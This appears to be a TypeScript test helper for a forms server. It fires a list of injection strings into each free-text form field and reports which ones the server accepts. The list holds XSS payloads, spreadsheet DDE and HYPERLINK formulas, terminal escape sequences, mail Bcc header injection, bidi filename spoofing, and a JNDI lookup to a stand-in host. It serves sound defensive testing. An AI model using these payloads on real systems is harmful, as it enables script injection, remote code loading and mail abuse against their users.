import { isFileField } from '#shared/forms/definition/payload-schema.ts';
import type { FieldSchema, Payload } from '#shared/forms/types.ts';
import { PDF } from '../../server/support/documents.ts';
import { type Fields, type FilePart, multipartBody } from '../../support/server/multipart-body.ts';
import { type Answer, send } from '../support/http.ts';
import { asFields, type Target, validPayload } from '../support/targets.ts';

/** Texts that could do something in the page, spreadsheet, terminal or mail program of a reader. */
export const INJECTION_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)//\'"',
  '</title><svg onload=alert(1)>',
  '&lt;b&gt; &#x3c;',
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '\u001b=1+1',
  '\u200e=1+1',
  '"=1+1"',
  ',=1+1',
  'x\r\n=1+1',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\',
  '\u001b[2J\u001b[H',
  '\u009b31mred',
  '\u0090q\u009c',
  'a\bb\u007fc\u0007',
  '\u202egpj.exe\u202c',
  '\u2066x\u2069',
  'x\r\nBcc: victim@example.org',
  'x\nContent-Type: text/html\n\n<b>hi</b>',
  'x\r\n.\r\nMAIL FROM:<a@example.org>',
  '=?utf-8?q?=0d=0aBcc:_victim@example.org?=',
  'x\u2028Bcc: victim@example.org',
  '{"level":60,"msg":"forged"}\n{"level":60}',
  '%s%n%x ${jndi:ldap://evil.example/a}',
];

function isFreeText(field: FieldSchema): boolean {
  return field.type === 'string' && field.enum === undefined && !isFileField(field);
}

async function sendOnce(
  url: string,
  target: Target,
  payload: Payload,
  filename: string,
  path: string,
  cookie: string | undefined,
): Promise<Answer> {
  const headers = cookie === undefined ? {} : { cookie };
  if (target.route.encoding === 'json') {
    return send(url, { path, headers: { ...headers, 'content-type': 'application/json' }, body: JSON.stringify(payload) });
  }
  // A file name cannot contain what would end its header line.
  const renamed: FilePart = { name: `${filename.replace(/[\r\n"]/g, '_')}.pdf`, content: PDF };
  const fields: Fields = Object.fromEntries(
    Object.entries(asFields(payload, target.route.schema)).map(([name, value]) => [
      name,
      typeof value === 'object' && 'name' in value ? renamed : value,
    ]),
  );
  const body = multipartBody(fields);
  return send(url, { path, headers: { ...body.headers, ...headers }, body: body.payload });
}

/**
 * Sends a form with a different text in every field that accepts one. `round` chooses the first text.
 *
 * @returns the number of fields that accepted their text
 */
export async function poison(url: string, target: Target, round: number, id?: string, cookie?: string): Promise<number> {
  const path = id === undefined ? target.path : `${target.path}?id=${id}`;
  const { properties } = target.route.schema;
  const valid = validPayload(target);
  const names = Object.keys(properties).filter((name) => name !== 'id' && isFreeText(properties[name] ?? {}));
  let fields = names;
  const textAt = (index: number) => INJECTION_TEXTS[(round + index * 5) % INJECTION_TEXTS.length] ?? '';
  for (let tries = 0; tries < 3; tries += 1) {
    const poisoned = Object.fromEntries(fields.map((name) => [name, textAt(names.indexOf(name))]));
    const answer = await sendOnce(url, target, { ...valid, ...poisoned }, textAt(0), path, cookie);
    if (answer.status === 200) return fields.length;
    const { errors = [] } = JSON.parse(answer.body) as { errors?: { field: string }[] };
    const refused = new Set(errors.map(({ field }) => field));
    fields = fields.filter((name) => !refused.has(name));
  }
  throw new Error(`${target.path} refuses its own sample`);
}
